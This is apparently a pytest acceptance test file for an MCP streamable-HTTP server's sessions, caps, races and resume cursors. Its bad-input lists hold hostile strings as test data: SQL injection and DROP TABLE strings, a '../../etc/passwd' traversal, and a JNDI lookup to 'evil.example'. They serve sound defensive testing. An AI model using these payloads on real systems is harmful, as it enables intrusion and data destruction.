"""Bad inputs 30 to 38: sessions and cursors. Each test's number is its row's."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from tests.acceptance import raw
from tests.acceptance.conftest import RunningSite, Site
from tests.acceptance.waiting import until
from tests.acceptance.wire import Received, Wire, notification

pytestmark = pytest.mark.acceptance

PING = b'{"jsonrpc":"2.0","id":1,"method":"ping"}'

TOKENS = {
    "AUTHENTICATION_CLASSES": ["rest_framework.authentication.TokenAuthentication"],
    "ALLOW_ANONYMOUS": False,
}

only_sqlite = pytest.mark.parametrize("new_site_url", ["sqlite"], indirect=True)


@pytest.fixture
async def wire(site: RunningSite) -> AsyncIterator[Wire]:
    async with raw.surviving(site) as wire:
        yield wire


async def answers(wire: Wire, session_id: str) -> list[httpx.Response]:
    """Return what each kind of request gets with a session id."""
    headers = {"mcp-session-id": session_id}
    return [
        await wire.post(wire.request("ping"), headers=headers),
        await wire.post(wire.call("add", a=1, b=2), headers=headers),
        await wire.post(notification("notifications/cancelled", requestId=1), headers=headers),
        await wire.post({"jsonrpc": "2.0", "id": "0" * 32, "result": {}}, headers=headers),
        await wire.post(wire.request("initialize"), headers=headers),
        await wire.send("GET", headers=headers),
        await wire.send("GET", headers={**headers, "last-event-id": "1.1"}),
        await wire.send("DELETE", headers=headers),
    ]


async def users(site: Site, url: str, *names: str) -> list[Wire]:
    """Return a client for each of some new users."""
    code = (
        "import json\n"
        "from django.contrib.auth.models import User\n"
        "from rest_framework.authtoken.models import Token\n"
        f"users = [User.objects.create_user(name) for name in {names!r}]\n"
        "print(json.dumps([Token.objects.create(user=user).key for user in users]))"
    )
    tokens = json.loads(site.manage("shell", "--no-imports", "-c", code))
    return [Wire(url, headers={"authorization": f"Token {token}"}) for token in tokens]


# Ids


async def test_30_a_session_that_never_was_is_not_found(wire: Wire) -> None:
    for session_id in ("A" * 43, "x", "!", "~" * 128):
        for response in await answers(wire, session_id):
            assert response.status_code == 404, session_id


async def test_30_a_session_that_was_terminated_is_not_found(wire: Wire) -> None:
    ended = Wire(wire.url)
    await ended.initialize()
    assert (await ended.delete()).status_code == 204
    never = await answers(wire, "A" * 43)
    for gone, unknown in zip(await answers(ended, ended.headers["mcp-session-id"]), never, strict=True):
        assert gone.status_code == unknown.status_code == 404
        if gone.content:
            assert gone.json()["error"] == unknown.json()["error"]


async def test_30_a_session_that_expired_is_not_found(site: RunningSite, wire: Wire) -> None:
    expired = Wire(wire.url)
    await expired.initialize()
    # As another worker does it; this one has served the session and knows its facts.
    (session_id,) = site.rows("SELECT max(id) FROM streamable_http_session")[0]
    site.execute("UPDATE streamable_http_session SET state = 'expired' WHERE id = ?", session_id)
    for response in await answers(expired, expired.headers["mcp-session-id"]):
        assert response.status_code == 404


@only_sqlite
async def test_31_a_session_of_somebody_else_is_not_found(new_site: Site) -> None:
    url = f"{new_site.serve(settings=TOKENS).url}/mcp"
    ada, ben = await users(new_site, url, "ada", "ben")
    await ada.initialize()
    await ben.initialize()
    received = Received()
    async with ada.stream(ada.call("count", n=3)) as connection:
        await received.read(connection)
    foreign = await answers(ben, ada.headers["mcp-session-id"])
    unknown = await answers(ben, "A" * 43)
    for one, other in zip(foreign, unknown, strict=True):
        assert one.status_code == other.status_code == 404
        assert {**one.headers, "date": ""} == {**other.headers, "date": ""}
        if one.content:
            assert one.json()["error"] == other.json()["error"]
    # Their own session does not open a foreign stream.
    assert (await ben.get(received.ids[0])).status_code == 400
    await raw.assert_serving(ada)
    await raw.assert_serving(ben)


BAD_SESSION_IDS = [
    b"x" * 20_000,
    b"\xc3\xa9",
    b"\xff\xfe",
    b"' OR 1=1 --",
    b'"; DROP TABLE streamable_http_session; --',
    b"a b",
    b"a\tb",
    b"",
    b"key:with:colons\x7f",
    b"%00",
    b"../../etc/passwd",
    b"${jndi:ldap://evil.example/a}",
    b"x" * 250,
    b"x" * 251,
]


async def test_32_a_session_id_of_any_bytes_is_not_found(wire: Wire) -> None:
    for session_id in BAD_SESSION_IDS:
        for method, body in (("POST", PING), ("GET", b""), ("DELETE", b"")):
            data = raw.request(
                wire, body, b"mcp-session-id: " + session_id, method=method, without=("mcp-session-id",)
            )
            answer = await raw.exchange(wire, data)
            assert answer is not None
            assert answer.status in (400, 404), (method, session_id)


async def test_32_a_session_id_of_100_kb_is_refused(wire: Wire) -> None:
    line = b"mcp-session-id: " + b"x" * 100_000
    answer = await raw.exchange(wire, raw.request(wire, PING, line, without=("mcp-session-id",)))
    assert answer is None or answer.status in (400, 404, 431)


async def test_32_two_session_ids_are_refused(wire: Wire) -> None:
    own = b"Mcp-Session-Id: " + wire.headers["mcp-session-id"].encode()
    for line in (own, b"mcp-session-id: " + b"A" * 43):
        answer = await raw.exchange(wire, raw.request(wire, PING, line))
        assert answer is not None
        assert answer.status == 400


async def test_33_without_a_session_there_is_only_initialize(wire: Wire) -> None:
    stranger = Wire(wire.url)
    for response in (
        await stranger.post(stranger.request("ping")),
        await stranger.post(stranger.call("add", a=1, b=2)),
        await stranger.post(stranger.request("nonsense")),
        await stranger.post(notification("notifications/initialized")),
        await stranger.post({"jsonrpc": "2.0", "id": "0" * 32, "result": {}}),
        await stranger.get(),
        await stranger.get("1.1"),
        await stranger.delete(),
    ):
        assert response.status_code == 400


async def test_34_initialize_in_a_session_is_refused_and_beside_it_opens_another(
    site: RunningSite, wire: Wire
) -> None:
    params = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "w", "version": "1"}}
    query = "SELECT count(*) FROM streamable_http_session"
    before = site.rows(query)
    response = await wire.post(wire.request("initialize", params))
    assert response.status_code == 400
    assert response.json()["error"]["code"] == -32600
    assert site.rows(query) == before

    other = Wire(wire.url)
    await other.initialize()
    again = Wire(wire.url)
    await again.initialize()
    assert len({each.headers["mcp-session-id"] for each in (wire, other, again)}) == 3
    for each in (wire, other, again):
        assert await each.result("add", a=1, b=2) == 3


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"protocolVersion": 5, "capabilities": {}, "clientInfo": {"name": "a", "version": "1"}},
        {"protocolVersion": "2025-11-25", "clientInfo": {"name": "a", "version": "1"}},
        {"protocolVersion": "2025-11-25", "capabilities": [], "clientInfo": {"name": "a", "version": "1"}},
        {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": "a"},
        {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": None, "version": "1"}},
        {
            "protocolVersion": "2025-11-25",
            "capabilities": {"experimental": {f"capability {number}": {} for number in range(50_000)}},
            "clientInfo": {"name": "a", "version": "1"},
        },
    ],
    ids=["nothing", "version", "no capabilities", "capabilities", "client", "name", "1 MB of capabilities"],
)
async def test_34_initialize_must_say_who_it_is(site: RunningSite, wire: Wire, params: dict[str, Any]) -> None:
    before = site.rows("SELECT count(*) FROM streamable_http_session")
    stranger = Wire(wire.url)
    response = await stranger.post(stranger.request("initialize", params))
    assert response.status_code == 400
    assert response.json()["error"]["code"] == -32602
    assert len(response.content) < 1_000
    assert site.rows("SELECT count(*) FROM streamable_http_session") == before


async def test_34_a_client_with_a_name_of_3_mb_is_kept_short(site: RunningSite, wire: Wire) -> None:
    info = {"name": "x" * 3_000_000, "version": "1", "icons": [{"src": f"data:image/png;base64,{'A' * 300_000}"}]}
    params = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": info}
    stranger = Wire(wire.url)
    assert (await stranger.post(stranger.request("initialize", params))).status_code in (200, 400)
    assert site.rows("SELECT max(length(client_info)) FROM streamable_http_session")[0][0] < 100_000
    query = "SELECT max(length(payload)) FROM streamable_http_record WHERE method = 'initialize'"
    assert site.rows(query)[0][0] < 100_000


# Floods


async def test_35_a_flood_of_initialize_ends_at_the_cap_and_old_sessions_live(new_sites: list[Site]) -> None:
    async def flood(site: Site) -> None:
        wire = Wire(f"{site.serve(settings={'MAX_SESSIONS': 20}).url}/mcp")
        await wire.initialize()
        opened = [await _open(wire) for _ in range(25)]
        assert [response.status_code for response in opened].count(200) == 19
        for response in opened[19:] + await asyncio.gather(*(_open(wire) for _ in range(15))):
            assert response.status_code in (429, 503)
            assert int(response.headers["retry-after"]) > 0
        assert await wire.result("add", a=1, b=2) == 3
        assert site.rows("SELECT count(*) FROM streamable_http_session WHERE state = 'open'") == [(20,)]
        await wire.delete()
        await until(lambda: _opens(Wire(wire.url)), timeout_seconds=20)

    await asyncio.gather(*map(flood, new_sites))


@only_sqlite
async def test_35_a_principal_has_a_cap_of_its_own(new_site: Site) -> None:
    url = f"{new_site.serve(settings={**TOKENS, 'MAX_SESSIONS_PER_PRINCIPAL': 3}).url}/mcp"
    ada, ben = await users(new_site, url, "ada", "ben")
    await ben.initialize()
    # In use, so that it does not give way.
    async with asyncio.TaskGroup() as group:
        sessions = [Wire(url, headers=ada.headers) for _ in range(3)]
        for session in sessions:
            await session.initialize()
            group.create_task(session.result("count", n=100, delay_ms=20))
        query = "SELECT count(*) FROM streamable_http_stream WHERE state = 'open' AND request_id <> ''"
        await until(lambda: new_site.rows(query) == [(3,)])
        for _ in range(5):
            response = await _open(ada)
            assert response.status_code in (429, 503)
            assert int(response.headers["retry-after"]) > 0
        # Nobody else notices.
        assert await ben.result("add", a=1, b=2) == 3
        assert (await _open(ben)).status_code == 200
    for session in sessions:
        assert await session.result("add", a=1, b=2) == 3


async def _open(wire: Wire) -> httpx.Response:
    params = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "w", "version": "1"}}
    headers = {name: value for name, value in wire.headers.items() if name != "mcp-session-id"}
    return await Wire(wire.url, headers=headers).post(wire.request("initialize", params))


async def _opens(wire: Wire) -> bool:
    return (await _open(wire)).status_code == 200


@only_sqlite
async def test_35_calls_of_a_process_are_capped(new_site: Site) -> None:
    wire = Wire(f"{new_site.serve(settings={'MAX_CALLS': 5, 'MAX_OPEN_STREAMS': 50}).url}/mcp")
    await wire.initialize()
    async with asyncio.TaskGroup() as group:
        running = [group.create_task(wire.result("count", n=100, delay_ms=20)) for _ in range(5)]
        query = "SELECT count(*) FROM streamable_http_stream WHERE state = 'open' AND request_id <> ''"
        await until(lambda: new_site.rows(query) == [(5,)])
        response = await wire.post(wire.call("add", a=1, b=2))
        assert response.status_code == 503
        assert int(response.headers["retry-after"]) > 0
        assert (await wire.post(wire.request("ping"))).status_code == 200
        assert (await wire.post(wire.request("tools/list"))).status_code == 200
    assert [task.result() for task in running] == ["counted to 100"] * 5
    await raw.assert_serving(wire)


@only_sqlite
async def test_35_calls_of_a_session_are_capped(new_site: Site) -> None:
    wire = Wire(f"{new_site.serve(settings={'MAX_OPEN_STREAMS': 3}).url}/mcp")
    await wire.initialize()
    async with asyncio.TaskGroup() as group:
        running = [group.create_task(wire.result("count", n=100, delay_ms=20)) for _ in range(3)]
        query = "SELECT count(*) FROM streamable_http_stream WHERE state = 'open' AND request_id <> ''"
        await until(lambda: new_site.rows(query) == [(3,)])
        response = await wire.post(wire.call("add", a=1, b=2))
        assert response.status_code == 429
        assert int(response.headers["retry-after"]) > 0
        other = Wire(wire.url)
        await other.initialize()
        assert await other.result("add", a=1, b=2) == 3
    assert [task.result() for task in running] == ["counted to 100"] * 3
    await raw.assert_serving(wire)


@only_sqlite
async def test_35_calls_without_sessions_are_capped_too(new_site: Site) -> None:
    wire = Wire(f"{new_site.serve(settings={'MODE': 'sessionless', 'MAX_CALLS': 5}).url}/mcp")
    await wire.initialize()
    async with asyncio.TaskGroup() as group:
        running = [group.create_task(wire.result("count", n=100, delay_ms=20)) for _ in range(5)]
        await until(lambda: _is_full(wire))
    assert [task.result() for task in running] == ["counted to 100"] * 5
    await raw.assert_serving(wire)


async def _is_full(wire: Wire) -> bool:
    response = await wire.post(wire.call("add", a=1, b=2))
    return response.status_code == 503 and int(response.headers["retry-after"]) > 0


async def test_35_a_stream_ends_at_its_age(new_sites: list[Site]) -> None:
    async def age(site: Site) -> None:
        wire = Wire(f"{site.serve(settings={'MAX_STREAM_SECONDS': 2}).url}/mcp")
        await wire.initialize()
        received = Received()
        async with wire.stream(wire.call("count", n=100_000, delay_ms=50)) as connection:
            await received.read(connection)
        assert "error" in received.answer
        assert site.state(received.stream_id) != "open"
        await raw.assert_serving(wire)

    await asyncio.gather(*map(age, new_sites))


# Races


async def test_36_delete_races_with_everything(site: RunningSite, wire: Wire) -> None:
    async def attempt(victim: Wire, number: int) -> list[int]:
        async def act(kind: int) -> int:
            if kind == 0:
                await asyncio.sleep(0.002 * (number % 10))
                return (await victim.delete()).status_code
            if kind == 1:
                return (await victim.post(victim.call("count", n=20, delay_ms=1))).status_code
            if kind == 2:
                return (await victim.post(victim.request("ping"))).status_code
            if kind == 3:
                return (await victim.get()).status_code
            if kind == 4:
                return (await victim.post(notification("notifications/cancelled", requestId=1))).status_code
            return (await victim.delete()).status_code

        return await asyncio.gather(*(act(kind) for kind in range(6)))

    victims = [Wire(wire.url) for _ in range(20)]
    for victim in victims:
        await victim.initialize()
    for number, victim in enumerate(victims):
        statuses = await attempt(victim, number)
        assert set(statuses) <= {200, 202, 204, 404}, statuses
        assert sorted((statuses[0], statuses[5])) == [204, 404]
        assert (await victim.post(victim.request("ping"))).status_code == 404
    query = (
        "SELECT count(*) FROM streamable_http_stream st JOIN streamable_http_session se ON se.id = st.session_id "
        "WHERE st.state = 'open' AND se.state = 'terminated'"
    )
    assert site.rows(query) == [(0,)]


# Cursors


async def test_37_bad_cursors_all_get_the_same(wire: Wire) -> None:
    own, foreign = Received(), Received()
    other = Wire(wire.url)
    await other.initialize()
    for owner, received in ((wire, own), (other, foreign)):
        async with owner.stream(owner.call("count", n=3)) as connection:
            await received.read(connection)
    stream = own.stream_id
    bad = [
        f"{stream:x}.5",
        f"{stream:x}.{2**63 - 1}",
        f"{stream:x}.{2**63}",
        f"{stream:x}.-1",
        f"{stream:x}.01",
        f"{stream:X}.1" if f"{stream:X}" != f"{stream:x}" else "A.1",
        f"0{stream:x}.1",
        f"-{stream:x}.1",
        f"{stream + 1:x}.1",
        f"{2**63:x}.1",
        "0.0",
        "1",
        "",
        ".",
        "nonsense",
        "٣.٣",
        foreign.ids[1],
        f"{foreign.stream_id:x}.0",
        "f" * 10_000,
        f"{stream:x}.{'1' * 10_000}",
        f"'{own.ids[0]}'; --",
    ]
    answers = []
    for cursor in bad:
        line = b"last-event-id: " + cursor.encode()
        answers.append(await raw.exchange(wire, raw.request(wire, b"", line, method="GET")))
    # What a server lets through of them: some refuse such bytes themselves.
    for cursor in (b"\0", own.ids[0].encode() + b"\0", b"a\rb"):
        data = raw.request(wire, b"", b"last-event-id: " + cursor, method="GET")
        refused = await raw.exchange(wire, data)
        assert refused is None or refused.status == 400
    assert {answer.status for answer in answers if answer} == {400}
    assert len({answer.body for answer in answers if answer}) == 1
    assert None not in answers
    async with wire.resume(own.ids[1]) as connection:
        assert [event.id for event in await connection.rest() if event.data] == own.ids[2:]
    await other.delete()


async def test_38_of_two_that_resume_one_stream_one_wins(wire: Wire) -> None:
    call = wire.call("count", n=300, delay_ms=3)
    received = Received()
    async with wire.stream(call) as connection:
        await received.read_events(connection, 5)
    pieces = [Received() for _ in range(3)]

    async def take(piece: Received) -> None:
        async with wire.resume(received.last_id) as connection:
            await piece.read(connection)

    await asyncio.gather(*map(take, pieces))
    winners = [piece for piece in pieces if piece.messages and "result" in piece.messages[-1]]
    assert len(winners) == 1
    assert winners[0].numbers == list(range(6, 301))
    for piece in pieces:
        assert len(set(piece.ids)) == len(piece.ids)
        assert piece.numbers == list(range(6, 6 + len(piece.numbers)))
